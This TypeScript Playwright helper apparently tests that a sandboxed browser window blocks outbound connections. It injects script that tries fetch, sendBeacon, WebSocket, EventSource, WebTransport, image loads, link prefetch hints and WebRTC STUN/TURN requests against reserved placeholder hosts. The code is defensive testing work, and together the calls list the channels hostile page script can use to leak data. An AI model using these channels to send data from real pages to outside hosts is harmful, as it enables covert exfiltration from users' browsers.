import type { Page } from 'playwright-core'

/** Long enough for a name to be asked for and a connection to begin. */
const attemptsMs = 4000

/** What a script in the window could try to get a word out, were one ever smuggled in. */
export async function tryToCallOut(page: Page): Promise<void> {
  await page.evaluate(async (ms) => {
    const attempt = (go: () => unknown): void => {
      try {
        const outcome = go()
        if (outcome instanceof Promise) outcome.catch(() => undefined)
      } catch {
        // Refused is what it should be.
      }
    }
    const hint = (rel: string, href: string): void => {
      const link = document.createElement('link')
      Object.assign(link, { rel, href })
      document.head.append(link)
    }
    const hosts = ['example.org', '198.18.0.1', '[2001:db8::1]']
    for (const host of hosts) {
      hint('dns-prefetch', `//prefetch.${host}`)
      for (const rel of [
        'dns-prefetch',
        'preconnect',
        'prefetch',
        'preload',
        'prerender',
        'modulepreload',
        'icon',
      ])
        hint(rel, `https://${host}/x`)
      attempt(() => fetch(`https://${host}/fetch`))
      attempt(() => navigator.sendBeacon(`https://${host}/beacon`, 'x'))
      attempt(() => new WebSocket(`wss://${host}/socket`))
      attempt(() => new EventSource(`https://${host}/events`))
      attempt(() => new WebTransport(`https://${host}/transport`))
      attempt(() => (new Image().src = `https://${host}/image`))
      attempt(() => {
        const urls = [
          `stun:${host}:3478`,
          `turn:${host}:3478`,
          `turn:${host}:3478?transport=tcp`,
          `turns:${host}:5349`,
        ]
        for (const policy of ['all', 'relay'] as const) {
          const call = new RTCPeerConnection({
            iceServers: [{ urls, username: 'x', credential: 'x' }],
            iceTransportPolicy: policy,
            iceCandidatePoolSize: 2,
          })
          call.createDataChannel('x')
          void call.createOffer().then((offer) => call.setLocalDescription(offer))
        }
      })
    }
    await new Promise((resolve) => setTimeout(resolve, ms))
  }, attemptsMs)
}
